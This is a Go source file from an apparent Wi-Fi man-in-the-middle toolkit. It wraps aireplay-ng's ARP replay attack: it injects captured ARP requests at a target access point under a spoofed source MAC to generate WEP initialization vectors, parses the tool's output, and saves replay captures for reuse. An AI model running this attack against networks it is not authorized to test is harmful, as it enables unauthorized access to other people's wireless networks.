package attack

import (
	"log/slog"
	"path/filepath"
	"regexp"
	"strconv"
	"time"

	"github.com/toramanemre/wifimitm/pkg/model"
	"github.com/toramanemre/wifimitm/pkg/proc"
)

// Stats reported by the ARP replay classifier.
const (
	StatRead = "read"
	StatARPs = "ARPs"
	StatACKs = "ACKs"
	StatSent = "sent"
	StatPPS  = "pps"
)

const (
	effectRememberCap = "remember_arp_capture"
	effectPersistCap  = "persist_arp_capture"
)

var (
	// Progress line while replaying, e.g.
	// "Read 120 packets (got 40 ARP requests and 38 ACKs), sent 4000 packets...(512 pps)".
	// ARPs, ACKs and sent must be non-zero; the zero form is the waiting state.
	arpReplayOK = regexp.MustCompile(
		`^Read (\d+) packets \(got (\d*[1-9]\d*) ARP requests and (\d*[1-9]\d*) ACKs\),` +
			` sent (\d*[1-9]\d*) packets\.\.\.\((\d+) pps\)$`)
	arpReplayCapFile = regexp.MustCompile(`^Saving ARP requests in (replay_arp.+\.cap)$`)
)

// ArpReplay reinjects captured ARP requests via aireplay-ng --arpreplay to
// provoke fresh initialization vectors. It runs inside a private directory so
// the tool's self-chosen replay_arp*.cap output can be collected; the first
// time replay succeeds against a network with no saved ARP capture, the
// announced capture file is persisted onto the access point for reuse.
type ArpReplay struct {
	*proc.Supervised

	iface  model.WirelessInterface
	ap     *model.WirelessAccessPoint
	logger *slog.Logger

	pendingCap string
}

// NewArpReplay creates an unstarted ARP replay process.
func NewArpReplay(iface model.WirelessInterface, ap *model.WirelessAccessPoint, grace time.Duration, logger *slog.Logger) *ArpReplay {
	if logger == nil {
		logger = slog.Default()
	}
	a := &ArpReplay{iface: iface, ap: ap, logger: logger}
	a.Supervised = proc.NewSupervised(proc.Config{
		Kind:           "arpreplay",
		Stdout:         arpReplayTable(),
		SilentStderr:   true,
		Flags:          []string{FlagDeauthenticated},
		Stats:          []string{StatRead, StatARPs, StatACKs, StatSent, StatPPS},
		TerminateGrace: grace,
		Logger:         logger,
	})
	return a
}

func arpReplayTable() proc.Table {
	return proc.Table{
		Rules: []proc.Rule{
			{
				Substr: "Waiting for beacon frame",
				Apply:  func(_ []string, u *proc.Update) { u.State = proc.StateWaitingForBeacon },
			},
			{
				Substr: "got 0 ARP requests",
				Apply:  func(_ []string, u *proc.Update) { u.State = proc.StateWaitingForArp },
			},
			{
				Substr: "Notice: got a deauth/disassoc packet. Is the source MAC associated ?",
				Apply:  func(_ []string, u *proc.Update) { u.SetFlag(FlagDeauthenticated) },
			},
			{
				Pattern: arpReplayOK,
				Apply: func(m []string, u *proc.Update) {
					stats := [...]string{StatRead, StatARPs, StatACKs, StatSent, StatPPS}
					vals := make([]int, len(stats))
					for i := range stats {
						v, err := strconv.Atoi(m[i+1])
						if err != nil {
							// Partial or implausible match: no stat writes at all.
							return
						}
						vals[i] = v
					}
					u.State = proc.StateOK
					for i, name := range stats {
						u.SetStat(name, vals[i])
					}
					u.AddEffect(effectPersistCap, "")
				},
			},
			{
				Pattern: arpReplayCapFile,
				Apply: func(m []string, u *proc.Update) {
					u.AddEffect(effectRememberCap, m[1])
				},
			},
		},
	}
}

// Start spawns aireplay-ng --arpreplay with sourceMAC as the injected source
// address. A previously saved ARP capture is replayed when the access point
// has one.
func (a *ArpReplay) Start(sourceMAC string) error {
	argv := []string{
		"aireplay-ng",
		"--arpreplay",
		"-b", a.ap.BSSID,
		"-h", sourceMAC,
	}
	if a.ap.ArpCapPath != "" {
		argv = append(argv, "-r", a.ap.ArpCapPath)
	}
	argv = append(argv, a.iface.Name)
	a.pendingCap = ""
	return a.Supervised.Start(argv, "")
}

// Update runs one classification pass and applies the capture-persistence
// side effects.
func (a *ArpReplay) Update() proc.Update {
	u := a.Supervised.Update()
	a.handleEffects(u)
	return u
}

func (a *ArpReplay) handleEffects(u proc.Update) {
	for _, e := range u.Effects {
		switch e.Name {
		case effectRememberCap:
			a.pendingCap = e.Value
		case effectPersistCap:
			if a.ap.ArpCapPath != "" || a.pendingCap == "" {
				continue
			}
			src := filepath.Join(a.Dir(), a.pendingCap)
			if err := a.ap.SaveArpCapture(src); err != nil {
				a.logger.Warn("saving ARP capture failed", "path", src, "error", err)
				continue
			}
			a.logger.Debug("ARP capture saved", "path", a.ap.ArpCapPath)
		}
	}
}

// Clean stops the process if needed and releases resources, dropping the
// pending capture path together with the private directory that held it.
func (a *ArpReplay) Clean() {
	a.Supervised.Clean()
	a.pendingCap = ""
}
